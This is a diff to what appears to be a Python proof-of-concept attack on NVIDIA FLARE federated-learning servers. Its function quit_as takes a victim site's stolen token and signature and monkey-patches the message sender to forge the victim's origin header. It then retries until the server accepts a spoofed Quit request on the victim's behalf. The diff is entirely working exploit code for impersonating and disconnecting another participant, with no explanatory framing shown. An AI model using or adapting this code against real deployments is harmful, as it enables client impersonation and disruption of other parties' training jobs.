@@ -79,15 +79,19 @@ def quit_as(host: str, kit: str, endpoint: str, victim: str, token: str, signatu
     """Says goodbye in the name of another site, whose token was stolen, over the thief's own connection."""
     from nvflare.apis.fl_context import FLContext
     from nvflare.apis.shareable import Shareable
-    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
+    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey, ReturnCode
     from nvflare.fuel.sec.authn import set_add_auth_headers_filters
     from nvflare.private.defs import CellChannel, CellChannelTopic, CellMessageHeaderKeys, new_cell_message
 
     cell = _cell(host, kit, endpoint)
     set_add_auth_headers_filters(cell, victim, token, signature)
-    cell.core_cell.add_outgoing_request_filter(
-        "*", "*", lambda message: message.set_header(MessageHeaderKey.ORIGIN, victim)
-    )
+    really_send = cell.core_cell.communicator.send
+
+    def send_as_victim(endpoint: Any, app_id: int, message: Any) -> None:
+        message.set_header(MessageHeaderKey.ORIGIN, victim)
+        really_send(endpoint, app_id, message)
+
+    cell.core_cell.communicator.send = send_as_victim
     farewell = Shareable()
     farewell.set_peer_context(FLContext())
     headers = {
@@ -95,10 +99,12 @@ def quit_as(host: str, kit: str, endpoint: str, victim: str, token: str, signatu
         CellMessageHeaderKeys.CLIENT_NAME: victim,
         CellMessageHeaderKeys.PROJECT_NAME: "fedvoxel",
     }
-    reply = cell.send_request(
-        CellChannel.SERVER_MAIN, CellChannelTopic.Quit, "server", new_cell_message(headers, farewell), timeout=5.0
-    )
-    return str(reply.get_header(MessageHeaderKey.RETURN_CODE))
+    code = ReturnCode.TARGET_UNREACHABLE
+    while code == ReturnCode.TARGET_UNREACHABLE:  # until the cell has connected
+        message = new_cell_message(headers, farewell)
+        reply = cell.send_request(CellChannel.SERVER_MAIN, CellChannelTopic.Quit, "server", message, timeout=5.0)
+        code = reply.get_header(MessageHeaderKey.RETURN_CODE)
+    return str(code)
 
 
 def command_as(host: str, kit: str, user: str, words: str, session_token: str = "") -> str:
